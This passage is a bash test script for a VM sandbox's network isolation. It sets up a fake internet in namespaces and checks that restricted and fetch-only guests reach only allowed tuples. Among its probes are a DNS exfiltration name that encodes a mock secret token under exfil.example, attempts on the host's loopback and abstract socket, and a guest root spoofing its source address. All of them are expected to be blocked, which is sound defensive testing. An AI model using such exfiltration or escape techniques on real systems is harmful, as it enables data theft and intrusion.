#!/bin/bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# The virtual-machine backend's networks beyond deny, end to end under TCG
# (or KVM), through the CLI:
#  - restricted (root): the guest's virtio-net device is a tap of the
#    namespace backend's per-attempt router, whose nftables rules decide
#    outside the guest. A fake "internet" in a network namespace this test
#    makes (198.51.100.0/24, 2001:db8::/32 on its loopback, TCP and UDP
#    echo servers, a DNS listener that must never see a query) is the
#    router's uplink (--network-uplink). No packet goes anywhere else.
#  - the DNS stub for restricted and fetch-only (the guest's 127.0.0.53,
#    carried over the control port to the stub on the host).
#  - restricted as uid 65534 (the pasta path's router: the caller in a
#    namespace GW of this test's, pasta uplinking it, the fake internet
#    behind GW), when pasta is installed.
#  - restricted as uid 65534 through a privileged helper this test starts
#    (forgeyard-sandbox-helper --net-uplink the fake internet): the helper
#    makes the root path's router with a tap as its sandbox-side link and
#    hands the tap's fd to the runner (protocol 4, NET_TAP); preferred to
#    pasta; nothing left in the uplink, the host or the helper.
#  - refusals that need no boot: a leased device; rootless restricted with
#    an uplink namespace.
# Skipped (77) only where QEMU, the guest kernel, root or nft is absent.
#
#   test-vm-net.sh FORGEYARD FY-NETPROBE ECHO-SERVER.PY [FY-ATTACK [HELPER]]
set -u
FY=$1 PROBE=$2 ECHO=$3 ATTACK=${4:-} HELPER=${5:-}
command -v qemu-system-x86_64 >/dev/null || { echo "SKIP: qemu-system-x86_64 is not installed"; exit 77; }
ls /boot/vmlinuz-* >/dev/null 2>&1 || { echo "SKIP: no guest kernel (/boot/vmlinuz-*; Debian: linux-image-amd64)"; exit 77; }
if [ "$(id -u)" != 0 ]; then echo "SKIP: the fake internet and network mode restricted need root"; exit 77; fi
command -v nft >/dev/null || { echo "SKIP: nft missing (apt install nftables)"; exit 77; }

NS=fyt-vmnet-$$-$RANDOM GW=fyt-vmngw-$$-$RANDOM
TMP=$(mktemp -d /tmp/fy-vm-net.XXXXXX)
SRV= DNS= HL= HPID=
fail=0
cleanup() {
    # (the helper first: its router namespaces go before the uplink does)
    [ -n "$HPID" ] && kill "$HPID" 2>/dev/null && wait "$HPID" 2>/dev/null
    [ -n "$HL" ] && kill "$HL" 2>/dev/null && wait "$HL" 2>/dev/null
    [ -n "$SRV" ] && kill "$SRV" 2>/dev/null && wait "$SRV" 2>/dev/null
    [ -n "$DNS" ] && kill "$DNS" 2>/dev/null && wait "$DNS" 2>/dev/null
    ip netns del "$NS" 2>/dev/null
    ip netns del "$GW" 2>/dev/null
    rm -rf "$TMP"
}
trap cleanup EXIT
trap 'exit 1' INT TERM
bad() { echo "FAIL: $*"; fail=1; }
ok() { echo "ok: $*"; }
chmod 755 "$TMP"
export FORGEYARD_VM_CACHE="$TMP/cache" XDG_RUNTIME_DIR="$TMP"

printf '{"version": 1, "profile": "standard-ci", "isolation": {"min_level": "virtual-machine", "preferred_level": "virtual-machine"}}\n' >"$TMP/vm.json"
printf '{"version": 1, "profile": "standard-ci", "isolation": {"min_level": "virtual-machine", "preferred_level": "virtual-machine"}, "process": {"user": "fake-root"}}\n' >"$TMP/vm-root.json"
chmod 644 "$TMP/vm.json" "$TMP/vm-root.json"

# 0. Refusals before any boot.
#    A leased device: a host node cannot reach a guest without passthrough.
out=$("$FY" run --policy "$TMP/vm.json" --device /dev/null -- /bin/true 2>&1); st=$?
[ $st = 247 ] && echo "$out" | grep -q "vm-qemu: devices required (the virtual-machine backend passes no host device" &&
    ok "a leased device is refused (unsupported, the VM says why)" ||
    bad "a leased device: status $st: $out"
mkdir "$TMP/u" && chown 65534:65534 "$TMP/u"
nobody() {
    setpriv --reuid 65534 --regid 65534 --clear-groups env -u FORGEYARD_VM_CACHE HOME="$TMP/u" \
        XDG_CACHE_HOME="$TMP/u/.cache" XDG_RUNTIME_DIR="$TMP/u" "$@"
}

ip netns add "$NS" || exit 1
ip netns add "$GW" || exit 1
ip -n "$NS" link set lo up
ip -n "$GW" link set lo up
# GW: the rootless caller's namespace, one veth to the fake internet.
ip -n "$GW" link add g0 type veth peer name n0 netns "$NS" || exit 1
ip -n "$GW" addr add 192.0.2.1/24 dev g0
ip -n "$GW" addr add 2001:db8:ff::1/64 dev g0 nodad
ip -n "$NS" addr add 192.0.2.2/24 dev n0
ip -n "$NS" addr add 2001:db8:ff::2/64 dev n0 nodad
ip -n "$GW" link set g0 up
ip -n "$NS" link set n0 up
ip -n "$GW" route add default via 192.0.2.2 dev g0
ip -n "$GW" -6 route add default via 2001:db8:ff::2 dev g0
for a in 198.51.100.1/24 198.51.100.2/32; do ip -n "$NS" addr add $a dev lo; done
for a in 2001:db8::1/64 2001:db8::2/128; do ip -n "$NS" addr add $a dev lo nodad; done
ip netns exec "$NS" timeout 900 python3 "$ECHO" "$TMP/ready" 890 8080 9090 >"$TMP/server.log" 2>&1 &
SRV=$!
for _ in $(seq 50); do [ -s "$TMP/ready" ] && break; sleep 0.1; done
[ -s "$TMP/ready" ] || { echo "echo server did not start"; cat "$TMP/server.log"; exit 1; }
# The fake internet's DNS server: it must never see a query.
ip netns exec "$NS" timeout 900 python3 -c '
import socket, select, sys
a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.bind(("198.51.100.1", 53))
b = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); b.bind(("2001:db8::1", 53))
open(sys.argv[1] + ".up", "w").write("x")
while True:
    r, _, _ = select.select([a, b], [], [], 890)
    if not r: break
    for s in r:
        d, _ = s.recvfrom(2048); open(sys.argv[1], "ab").write(d + b"\n")
' "$TMP/dnslog" &
DNS=$!
for _ in $(seq 50); do [ -e "$TMP/dnslog.up" ] && break; sleep 0.1; done

host_state() {
    ip -o link show | awk -F': ' '{print $2}' | sed 's/@.*//' | grep -E '^(fy[0-9a-f]{8}|sb|up)$' | sort
    nft list ruleset 2>&1
    cat /proc/sys/net/ipv4/ip_forward /proc/sys/net/ipv6/conf/all/forwarding
    ip route show table all 2>/dev/null | grep -E '100\.(64|127)\.|fd66:7973|dev fy[0-9a-f]{8}' | sort
    ip -6 route show table all 2>/dev/null | grep -E 'fd66:7973|dev fy[0-9a-f]{8}' | sort
}
uplink_state() {
    ip -n "$NS" -o link show | awk -F': ' '{print $2}' | sed 's/@.*//' | sort
    # (fe80:: and ff00::/8 on n0 come with the veth to GW's own IPv6
    # configuration, whenever the kernel gets to it.)
    ip -n "$NS" route show table all | grep -vE 'fe80|ff00::/8 dev n0' | sort
    ip -n "$NS" -6 route show table all | grep -vE 'fe80|ff00::/8 dev n0' | sort
    ip -n "$NS" addr show | grep inet | grep -vc fe80
}
# restricted without root and with an uplink namespace: refused, saying
# why (pasta uplinks the caller's own namespace); never weaker.
if command -v setpriv >/dev/null && command -v pasta >/dev/null; then
    out=$(nobody "$FY" run --policy "$TMP/vm.json" --network restricted --network-uplink "/run/netns/$NS" \
          --allow 198.51.100.1:8080 -- /bin/true 2>&1); st=$?
    [ $st = 247 ] && echo "$out" | grep -q "an uplink namespace (FY_NETHOST_UPLINK) needs root" &&
        ok "rootless restricted with an uplink namespace is refused (unsupported, says why)" ||
        bad "rootless restricted with an uplink: status $st: $out"
fi
host_state >"$TMP/host.before"
uplink_state >"$TMP/uplink.before"
# What this test's attempts may leave: processes that are children of this
# shell's runs are gone with them; the stub's and QEMU's pids come from the
# results (never counted host-wide by name).
gone() { [ -z "$1" ] || ! kill -0 "$1" 2>/dev/null; }
nothing_left() {
    host_state >"$TMP/host.after"
    uplink_state >"$TMP/uplink.after"
    if ! cmp -s "$TMP/host.before" "$TMP/host.after"; then
        bad "$1: the host changed"; diff "$TMP/host.before" "$TMP/host.after"
    elif ! cmp -s "$TMP/uplink.before" "$TMP/uplink.after"; then
        bad "$1: something stayed in the uplink namespace"; diff "$TMP/uplink.before" "$TMP/uplink.after"
    else
        ok "$1: nothing left (no tap, veth, route, address, namespace or rule; host unchanged)"
    fi
    [ -z "$(ls -A "$TMP/cache/attempts" 2>/dev/null)" ] || bad "$1: attempt directories left: $(ls "$TMP/cache/attempts")"
}

mkdir "$TMP/probe" && cp "$PROBE" "$TMP/probe/fy-netprobe" && chmod 755 "$TMP/probe" "$TMP/probe/fy-netprobe"
[ -n "$ATTACK" ] && cp "$ATTACK" "$TMP/probe/fy-attack" && chmod 755 "$TMP/probe/fy-attack"
# The attack suite's network probes: a listener on the host's loopback (its
# port allowed by name: the guest's 127.0.0.1 is its own) and an abstract
# unix socket of the host; neither may be reached, nor seen in /proc/net.
AB=fy-vm-net-abstract-$$
python3 -c '
import socket, sys, select
t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(4)
u = socket.socket(socket.AF_UNIX); u.bind("\0" + sys.argv[2]); u.listen(4)
open(sys.argv[1], "w").write(str(t.getsockname()[1]))
while True:
    r, _, _ = select.select([t, u], [], [], 900)
    if not r: break
    for s in r:
        c, _ = s.accept(); open(sys.argv[1] + ".hit", "a").write("hit\n"); c.close()
' "$TMP/hostport" "$AB" &
HL=$!
for _ in $(seq 50); do [ -s "$TMP/hostport" ] && break; sleep 0.1; done
HP=$(cat "$TMP/hostport")
printf '198.51.100.1 mirror.test\n2001:db8::1 mirror.test\n' >"$TMP/hosts"
chmod 644 "$TMP/hosts"
X=aGVsbG8td29ybGQtc2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA.exfil.example
run() {
    timeout 600 "$FY" run --network-uplink "/run/netns/$NS" --network-hosts "$TMP/hosts" \
        --bind-ro "$TMP/probe:/opt/fyprobe" "$@"
}

# 1. restricted, one guest, every probe: the allowed tuples answer from
#    inside the guest, nothing else does (TCP, UDP, ICMP, IPv6, the router
#    itself); DNS of the allowed name answers, another name is refused by
#    the stub and unanswered elsewhere. (198.51.100.2:9090 is allowed so
#    that a port alone opens nothing: the router matches whole tuples.)
cat >"$TMP/probe/probes.sh" <<IN
P=/opt/fyprobe/fy-netprobe
t() {
    name=\$1; shift
    o=\$("\$P" "\$@" 2>&1); rc=\$?
    case \$name in *-allowed) [ \$rc = 0 ] || { o="\$o / again: \$("\$P" "\$@" 2>&1)"; rc=\$?; };; esac
    echo "\$name \$rc"; echo "\$name: \$o" >&2
}
t tcp4-allowed tcp 198.51.100.1 8080
t udp4-allowed udp 198.51.100.1 9090
t tcp6-allowed tcp 2001:db8::1 8080
t tcp4-other-allowed tcp 198.51.100.2 9090
t tcp4-other-port tcp 198.51.100.1 9090
t udp4-other-port udp 198.51.100.1 8080
t tcp4-other-addr tcp 198.51.100.2 8080
t udp4-other-addr udp 198.51.100.2 9090
t tcp6-other-port tcp 2001:db8::1 9090
t udp6-blocked udp 2001:db8::1 8080
t tcp6-other-addr tcp 2001:db8::2 8080
t icmp4 icmp 198.51.100.1
t icmp6 icmp 2001:db8::1
t router-itself tcp 100.64.0.1 8080
t router6-itself tcp fd66:7973::1 8080
echo "devices \$(ls /sys/class/net | tr '\n' ' ')" >&2
echo "dns-a \$(\$P dnsq 127.0.0.53 mirror.test 1)" >&2
echo "dns-aaaa \$(\$P dnsq 127.0.0.53 mirror.test 28)" >&2
echo "dns-exfil \$(\$P dnsq 127.0.0.53 $X 1)" >&2
echo "dns-exfil-direct \$(\$P dnsq 198.51.100.1 $X 1)" >&2
echo "dnstcp-a \$(\$P dnsqt 127.0.0.53 mirror.test 1)" >&2
echo "dnstcp-exfil \$(\$P dnsqt 127.0.0.53 $X 1)" >&2
echo "dnstcp-bad \$(\$P dnsbad 127.0.0.53)" >&2
echo "dnstcp-after \$(\$P dnsqt 127.0.0.53 mirror.test 28)" >&2
echo "libc \$(\$P resolve mirror.test)" >&2
getent hosts $X >/dev/null 2>&1; echo "getent-exfil \$?" >&2
grep nameserver /etc/resolv.conf >&2
A=/opt/fyprobe/fy-attack
if [ -x \$A ]; then
    echo "attack-tcp \$(\$A tcp $HP 2>&1)" >&2
    echo "attack-abstract \$(\$A abstract $AB 2>&1)" >&2
    echo "proc-net-unix \$(grep -c $AB /proc/net/unix /proc/1/net/unix 2>&1 | tr '\n' ' ')" >&2
    echo "proc-net-dev \$(sed -n 's/^ *\([a-z0-9]*\):.*/\1/p' /proc/net/dev | sort | tr '\n' ' ')" >&2
fi
IN
chmod 644 "$TMP/probe/probes.sh"
run --policy "$TMP/vm.json" --network restricted --allow mirror.test:8080 --allow 198.51.100.1:9090/udp \
    --allow 198.51.100.2:9090 --allow "127.0.0.1:$HP" --result "$TMP/r1.json" -- /bin/sh /opt/fyprobe/probes.sh >"$TMP/out" 2>"$TMP/err"
rc=$?
[ $rc = 0 ] || { bad "restricted guest exited $rc"; cat "$TMP/err"; }
while read -r name res; do
    case $name in
    *-allowed) [ "$res" = 0 ] && ok "$name answers from the guest" || { bad "$name: no answer (rc $res)"; grep "^$name:" "$TMP/err"; };;
    *) [ "$res" = 1 ] && ok "$name blocked" || bad "$name: expected blocked, got rc $res";;
    esac
done <"$TMP/out"
[ "$(wc -l <"$TMP/out")" = 15 ] || { bad "expected 15 probe results, got $(wc -l <"$TMP/out")"; cat "$TMP/err"; }
grep -qx "devices eth0 lo " "$TMP/err" && ok "the guest has eth0 and lo, nothing else" || bad "guest devices: $(grep ^devices "$TMP/err")"
grep -qx "dns-a rcode=0 an=1 198.51.100.1" "$TMP/err" && grep -qx "dns-aaaa rcode=0 an=1 2001:db8::1" "$TMP/err" &&
    grep -qx "libc 198.51.100.1" "$TMP/err" && ok "the stub answers the allowed name in the guest (A, AAAA, libc)" ||
    { bad "DNS of the allowed name"; grep -E "^(dns|libc)" "$TMP/err"; }
grep -qx "dns-exfil rcode=5 an=0" "$TMP/err" && grep -qx "dns-exfil-direct no answer" "$TMP/err" &&
    grep -qx "getent-exfil 2" "$TMP/err" && ok "a name carrying data is refused by the stub and unanswered elsewhere" ||
    { bad "the exfil name"; grep -E "^(dns|getent)" "$TMP/err"; }
grep -qx "nameserver 127.0.0.53" "$TMP/err" && ok "resolv.conf names only the stub" || bad "resolv.conf"
grep -qx "dnstcp-a rcode=0 an=1 198.51.100.1" "$TMP/err" && grep -qx "dnstcp-exfil rcode=5 an=0" "$TMP/err" &&
    grep -qx "dnstcp-bad closed" "$TMP/err" && grep -qx "dnstcp-after rcode=0 an=1 2001:db8::1" "$TMP/err" &&
    ok "over TCP in the guest: the allowed name answers, another is refused, an oversize length is closed" ||
    { bad "DNS over TCP in the guest"; grep -E "^dnstcp" "$TMP/err"; }
if [ -n "$ATTACK" ]; then
    grep -q "^attack-tcp denied ECONNREFUSED" "$TMP/err" && grep -q "^attack-abstract denied ECONNREFUSED" "$TMP/err" &&
        [ ! -e "$TMP/hostport.hit" ] && ok "attack probes: the host's loopback (allowed by name) and abstract socket unreachable" ||
        { bad "attack probes reached the host"; grep ^attack "$TMP/err"; }
    grep -qx "proc-net-unix /proc/net/unix:0 /proc/1/net/unix:0 " "$TMP/err" &&
        grep -qx "proc-net-dev eth0 lo " "$TMP/err" && ok "attack probes: no host socket or interface in the guest's /proc/net" ||
        { bad "the guest's /proc/net"; grep ^proc "$TMP/err"; }
fi
sleep 0.3
[ ! -s "$TMP/dnslog" ] && ok "the fake internet's DNS server never saw a query" ||
    bad "the fake internet's DNS server got: $(cat -v "$TMP/dnslog")"
stub=$(python3 - "$TMP/r1.json" "$X" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
iso = r["isolation"]
assert r["level"] == "virtual-machine" and r["backend"] == "vm-qemu", (r["level"], r["backend"])
n = iso["network"]
assert n["mode"] == "restricted" and n["mechanism"] == "nftables-router-netns", n
assert "tap sb in the router namespace" in n["link"] and "198.51.100.1/32 tcp 8080" in " ".join(n["rules"]), n
assert "127.0.0.53" in n["dns"], n
assert "fd of the router's tap" in iso["vmm_confinement"], iso["vmm_confinement"]
g = iso["guest_report"]
assert "eth0=100.64.0.2/30" in g and ("network-devices=eth0,lo " in g or "network-devices=lo,eth0 " in g), g
# restored from a template of its own (made by this attempt: the cache is new)
assert iso["boot"].startswith("template restore") and "restricted: a template of its own" in iso["boot"], iso["boot"]
tm = iso["template"]
assert tm["made_by_this_attempt"] is True and "\nnic virtio-net-device mac=" in tm["inputs"], tm
assert "reseeded" in g and tm["reseeded"] is True, (g, tm)
assert tm["state_passed"].startswith("over the restoring QEMU's monitor"), tm["state_passed"]
open(sys.argv[1] + ".key", "w").write(tm["key"])
net = r["network"]
assert net["router_left"] == 0, net
d = net["dns"]
assert d["ended"] is True and "seccomp-allowlist" in d["confinement"], d
names = {(q["host"], q["decision"]) for q in d["queries"]}
assert ("mirror.test", "allowed") in names, d["queries"]
assert (sys.argv[2].lower(), "refused") in names, d["queries"]
assert r["cleanup"]["network_left"] == 0, r["cleanup"]
print(d["pid"])
PY
) && ok "the evidence: router mechanism, rules, tap link, guest report, network.dns, witnessed cleanup" ||
    { bad "the evidence of the restricted guest"; python3 -m json.tool "$TMP/r1.json" | head -150; }
gone "$stub" && ok "the DNS stub (pid $stub) is gone" || bad "the DNS stub $stub is still running"
nothing_left "restricted guest"

# 2. A guest root that rewires eth0 (another address of the fake internet,
#    routes straight at it, then a spoofed source) reaches nothing more: the
#    rules are in the host's router, out of the guest's reach.
cat >"$TMP/probe/rewire.sh" <<'IN'
P=/opt/fyprobe/fy-netprobe
for ip in /sbin/ip /usr/sbin/ip /bin/ip /usr/bin/ip; do [ -x $ip ] && break; done
echo "uid $(id -u)" >&2
$ip addr add 198.51.100.50/32 dev eth0; echo "addr-add $?"
$ip route add 198.51.100.2/32 dev eth0; echo "route-add $?"
"$P" tcp 198.51.100.2 8080 >/dev/null 2>&1; echo "tcp-other-addr $?"
"$P" tcp 198.51.100.1 9090 >/dev/null 2>&1; echo "tcp-other-port $?"
"$P" tcp 198.51.100.1 8080 >/dev/null 2>&1; echo "tcp-allowed $?"
$ip route replace default via 100.64.0.1 dev eth0 src 198.51.100.50; echo "route-spoof $?"
"$P" tcp 198.51.100.1 8080 >/dev/null 2>&1; echo "tcp-allowed-spoofed $?"
IN
chmod 644 "$TMP/probe/rewire.sh"
run --policy "$TMP/vm-root.json" --network restricted --allow 198.51.100.1:8080 --result "$TMP/r2.json" \
    -- /bin/sh /opt/fyprobe/rewire.sh >"$TMP/out" 2>"$TMP/err"
grep -qx "uid 0" "$TMP/err" && grep -qx "addr-add 0" "$TMP/out" && grep -qx "route-add 0" "$TMP/out" &&
    grep -qx "route-spoof 0" "$TMP/out" && grep -qx "tcp-other-addr 1" "$TMP/out" && grep -qx "tcp-other-port 1" "$TMP/out" &&
    grep -qx "tcp-allowed 0" "$TMP/out" && grep -qx "tcp-allowed-spoofed 1" "$TMP/out" &&
    ok "a guest root rewiring eth0 reaches nothing more; a spoofed source reaches nothing" ||
    { bad "rewired guest"; cat "$TMP/out" "$TMP/err"; }
# (restored from the first attempt's template, not made again)
tmpl_used() { # RESULT KEY-FILE MADE: restored from the template named in KEY-FILE, made by it or not
    python3 - "$@" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
iso = r["isolation"]
assert iso["boot"].startswith("template restore"), iso["boot"]
tm = iso["template"]
assert tm["key"] == open(sys.argv[2]).read(), (tm["key"], "expected", open(sys.argv[2]).read())
assert tm["made_by_this_attempt"] is (sys.argv[3] == "made"), tm
assert "reseeded" in iso["guest_report"], iso["guest_report"]
PY
}
tmpl_used "$TMP/r2.json" "$TMP/r1.json.key" kept && ok "the rewired guest was restored from the restricted template" ||
    bad "the rewired guest's boot"
nothing_left "rewired guest"

# 3. restricted as uid 65534: the pasta path's router (the library's own
#    user namespace, pasta as the caller uplinking GW), its sb a tap QEMU
#    holds; the same checks, fewer probes.
gw_state() {
    ip -n "$GW" -o link show | awk -F': ' '{print $2}' | sed 's/@.*//' | sort
    ip -n "$GW" route show table all | grep -v fe80 | sort
    ip -n "$GW" -6 route show table all | grep -v fe80 | sort
    ip -n "$GW" addr show | grep -c inet
    ip netns exec "$GW" nft list ruleset 2>&1
}
if command -v setpriv >/dev/null && command -v pasta >/dev/null &&
   setpriv --reuid 65534 --regid 65534 --clear-groups test -x "$FY" 2>/dev/null; then
    gw_state >"$TMP/gw.before"
    cat >"$TMP/probe/rl.sh" <<IN
P=/opt/fyprobe/fy-netprobe
t() {
    name=\$1; shift
    o=\$("\$P" "\$@" 2>&1); rc=\$?
    case \$name in *-allowed) [ \$rc = 0 ] || { o="\$o / again: \$("\$P" "\$@" 2>&1)"; rc=\$?; };; esac
    echo "\$name \$rc"; echo "\$name: \$o" >&2
}
t tcp4-allowed tcp 198.51.100.1 8080
t udp4-allowed udp 198.51.100.1 9090
t tcp6-allowed tcp 2001:db8::1 8080
t tcp4-other-port tcp 198.51.100.1 9090
t tcp4-other-addr tcp 198.51.100.2 8080
t udp6-blocked udp 2001:db8::1 8080
t icmp4 icmp 198.51.100.1
t gateway tcp 192.0.2.1 8080
echo "dns-a \$(\$P dnsq 127.0.0.53 mirror.test 1)" >&2
echo "dns-exfil \$(\$P dnsq 127.0.0.53 $X 1)" >&2
IN
    chmod 644 "$TMP/probe/rl.sh"
    ip netns exec "$GW" setpriv --reuid 65534 --regid 65534 --clear-groups env -u FORGEYARD_VM_CACHE HOME="$TMP/u" \
        XDG_CACHE_HOME="$TMP/u/.cache" XDG_RUNTIME_DIR="$TMP/u" timeout 600 "$FY" run --policy "$TMP/vm.json" \
        --network restricted --network-hosts "$TMP/hosts" --allow mirror.test:8080 --allow 198.51.100.1:9090/udp \
        --bind-ro "$TMP/probe:/opt/fyprobe" --result "$TMP/u/r4.json" -- /bin/sh /opt/fyprobe/rl.sh \
        >"$TMP/out" 2>"$TMP/err"
    rc=$?
    [ $rc = 0 ] || { bad "rootless restricted guest exited $rc"; cat "$TMP/err"; }
    while read -r name res; do
        case $name in
        *-allowed) [ "$res" = 0 ] && ok "rootless: $name answers from the guest" || { bad "rootless: $name: no answer (rc $res)"; grep "^$name:" "$TMP/err"; };;
        *) [ "$res" = 1 ] && ok "rootless: $name blocked" || bad "rootless: $name: expected blocked, got rc $res";;
        esac
    done <"$TMP/out"
    [ "$(wc -l <"$TMP/out")" = 8 ] || { bad "rootless: expected 8 probe results, got $(wc -l <"$TMP/out")"; cat "$TMP/err"; }
    grep -qx "dns-a rcode=0 an=1 198.51.100.1" "$TMP/err" && grep -qx "dns-exfil rcode=5 an=0" "$TMP/err" &&
        ok "rootless: the stub answers the allowed name and refuses another" || { bad "rootless DNS"; grep ^dns "$TMP/err"; }
    pasta=$(python3 - "$TMP/u/r4.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
n = r["isolation"]["network"]
assert n["mechanism"] == "nftables-userns-pasta" and "pasta as the caller" in n["enforcement"], n
assert "tap sb" in n["link"], n
net = r["network"]
assert net["uplink"]["ended"] is True and net["router_links_left"] == 0 and net["router_left"] == 0, net
assert net["dns"]["ended"] is True, net["dns"]
iso = r["isolation"]
assert iso["boot"].startswith("template restore") and "restricted: a template of its own" in iso["boot"], iso["boot"]
assert iso["template"]["made_by_this_attempt"] is True, iso["template"]
open(sys.argv[1] + ".key", "w").write(iso["template"]["key"])
assert r["cleanup"]["network_left"] == 0, r["cleanup"]
print(net["uplink"]["pid"])
PY
) && ok "rootless: the evidence (pasta path, tap, pasta reaped, router links gone)" ||
        { bad "rootless evidence"; python3 -m json.tool "$TMP/u/r4.json" | grep -A30 '"network"'; }
    gone "$pasta" && ok "rootless: pasta (pid $pasta) is gone" || bad "rootless: pasta $pasta still runs"
    gw_state >"$TMP/gw.after"
    cmp -s "$TMP/gw.before" "$TMP/gw.after" && ok "rootless: the caller's namespace is unchanged" ||
        { bad "rootless: the caller's namespace changed"; diff "$TMP/gw.before" "$TMP/gw.after"; }
    nothing_left "rootless restricted guest"
else
    echo "SKIP (part): rootless restricted needs setpriv, pasta, and $FY executable by uid 65534"
fi

# 3b. restricted as uid 65534 through the privileged helper (protocol 4):
#     the helper, started here with the fake internet as its uplink, makes
#     the root path's router with a tap "sb" and hands the runner the tap's
#     fd, which QEMU holds. Preferred to pasta (installed or not).
if [ -n "$HELPER" ] && command -v setpriv >/dev/null &&
   setpriv --reuid 65534 --regid 65534 --clear-groups test -x "$FY" 2>/dev/null; then
    mkdir -m 0755 "$TMP/hsock"
    HSOCK=$TMP/hsock/helper.sock
    # (the budget covers the VMM sandbox's memory limit: the guest's RAM and QEMU's own)
    "$HELPER" --socket "$HSOCK" --allow 65534:2:8G:8192 --subtree "fyt-vmnet-$$" --net-uplink "/run/netns/$NS" \
        --verbose 2>"$TMP/helper.log" &
    HPID=$!
    for _ in $(seq 300); do [ -S "$HSOCK" ] && break; kill -0 $HPID 2>/dev/null || break; sleep 0.02; done
    if [ -S "$HSOCK" ]; then
        hfds_before=$(ls /proc/$HPID/fd | wc -l)
        nobody env FORGEYARD_HELPER_SOCKET="$HSOCK" timeout 600 "$FY" run --policy "$TMP/vm.json" \
            --network restricted --network-hosts "$TMP/hosts" --allow mirror.test:8080 --allow 198.51.100.1:9090/udp \
            --allow 198.51.100.2:9090 --bind-ro "$TMP/probe:/opt/fyprobe" --result "$TMP/u/r5.json" \
            -- /bin/sh /opt/fyprobe/probes.sh >"$TMP/out" 2>"$TMP/err"
        rc=$?
        [ $rc = 0 ] || { bad "helper: restricted guest exited $rc"; cat "$TMP/err"; }
        while read -r name res; do
            case $name in
            *-allowed) [ "$res" = 0 ] && ok "helper: $name answers from the guest" || { bad "helper: $name: no answer (rc $res)"; grep "^$name:" "$TMP/err"; };;
            *) [ "$res" = 1 ] && ok "helper: $name blocked" || bad "helper: $name: expected blocked, got rc $res";;
            esac
        done <"$TMP/out"
        [ "$(wc -l <"$TMP/out")" = 15 ] || { bad "helper: expected 15 probe results, got $(wc -l <"$TMP/out")"; cat "$TMP/err"; }
        grep -qx "devices eth0 lo " "$TMP/err" && ok "helper: the guest has eth0 and lo, nothing else" ||
            bad "helper: guest devices: $(grep ^devices "$TMP/err")"
        grep -qx "dns-a rcode=0 an=1 198.51.100.1" "$TMP/err" && grep -qx "dns-exfil rcode=5 an=0" "$TMP/err" &&
            ok "helper: the stub answers the allowed name and refuses another" || { bad "helper DNS"; grep ^dns "$TMP/err"; }
        python3 - "$TMP/u/r5.json" "$HSOCK" "/run/netns/$NS" <<'PY' && ok "helper: the evidence (isolation.network.helper, the uplink, tap link, witnessed removal)" ||
import json, sys
r = json.load(open(sys.argv[1]))
assert r["outcome"] == "succeeded" and r["backend"] == "vm-qemu", (r["outcome"], r["backend"])
n = r["isolation"]["network"]
assert n["mechanism"] == "nftables-helper-router-netns", n
assert "privileged helper at " + sys.argv[2] in n["helper"], n
assert n["uplink"] == sys.argv[3], n
assert "tap sb" in n["link"] and "privileged helper" in n["enforcement"], n
assert "fd of the router's tap" in r["isolation"]["vmm_confinement"], r["isolation"]["vmm_confinement"]
net = r["network"]
assert net["router_left"] == 0, net
assert r["cleanup"]["network_left"] == 0, r["cleanup"]
PY
            { bad "helper evidence"; python3 -m json.tool "$TMP/u/r5.json" | grep -A30 '"network"'; }
        # restored from the template the pasta run made (same machine, same
        # cache), or made now where pasta did not run
        if [ -s "$TMP/u/r4.json.key" ]; then
            tmpl_used "$TMP/u/r5.json" "$TMP/u/r4.json.key" kept
        else
            python3 -c 'import json, sys; print(json.load(open(sys.argv[1]))["isolation"]["template"]["key"], end="")' \
                "$TMP/u/r5.json" >"$TMP/u/r5.json.key" && tmpl_used "$TMP/u/r5.json" "$TMP/u/r5.json.key" made
        fi && ok "helper: restored from the restricted template" || bad "helper: not restored from the restricted template"
        grep -q "request 7 -> ok" "$TMP/helper.log" && ok "helper: the router came from NET_TAP" ||
            { bad "helper: no NET_TAP served"; cat "$TMP/helper.log"; }
        nothing_left "helper restricted guest"
        for _ in $(seq 20); do [ "$(ls /proc/$HPID/fd | wc -l)" = "$hfds_before" ] && break; sleep 0.1; done
        [ "$(ls /proc/$HPID/fd | wc -l)" = "$hfds_before" ] && ok "helper: it holds no router namespace or tap any more" ||
            { bad "helper: holds $(ls /proc/$HPID/fd | wc -l) descriptors, $hfds_before before"; ls -l /proc/$HPID/fd; }
        kill $HPID; wait $HPID; st=$?; HPID=
        [ $st = 0 ] && [ ! -e "$HSOCK" ] && ok "helper: stopped cleanly" || bad "helper: ended with $st"
    else
        bad "the helper did not start"; cat "$TMP/helper.log"
    fi
else
    echo "SKIP (part): restricted through the helper needs the helper, setpriv and $FY executable by uid 65534"
fi

# 4. fetch-only: the same stub through the same frames; still no NIC.
cat >"$TMP/probe/fetch.sh" <<IN
P=/opt/fyprobe/fy-netprobe
echo "devices \$(ls /sys/class/net | tr '\n' ' ')"
echo "dns-a \$(\$P dnsq 127.0.0.53 mirror.test 1)"
echo "dns-exfil \$(\$P dnsq 127.0.0.53 $X 1)"
IN
chmod 644 "$TMP/probe/fetch.sh"
timeout 600 "$FY" run --policy "$TMP/vm.json" --network fetch-only --network-hosts "$TMP/hosts" \
    --allow mirror.test:8080 --bind-ro "$TMP/probe:/opt/fyprobe" --result "$TMP/r3.json" \
    -- /bin/sh /opt/fyprobe/fetch.sh >"$TMP/out" 2>"$TMP/err"
grep -qx "devices lo " "$TMP/out" && grep -qx "dns-a rcode=0 an=1 198.51.100.1" "$TMP/out" &&
    grep -qx "dns-exfil rcode=5 an=0" "$TMP/out" &&
    ok "fetch-only: no NIC; the stub answers the allowed name and refuses another" ||
    { bad "fetch-only DNS"; cat "$TMP/out" "$TMP/err"; }
python3 - "$TMP/r3.json" <<'PY' && ok "fetch-only: network.dns in the result, the stub reaped" || bad "fetch-only network.dns"
import json, sys
r = json.load(open(sys.argv[1]))
d = r["network"]["dns"]
assert d["ended"] is True and len(d["queries"]) == 2, d
assert r["network"]["proxy"]["ended"] is True, r["network"]
PY
nothing_left "fetch-only guest"

# 5. Template classes: a machine with the restricted network's NIC is
#    another machine. A deny attempt never restores the restricted template
#    (nor its guest an eth0), a restricted attempt never the deny one; a
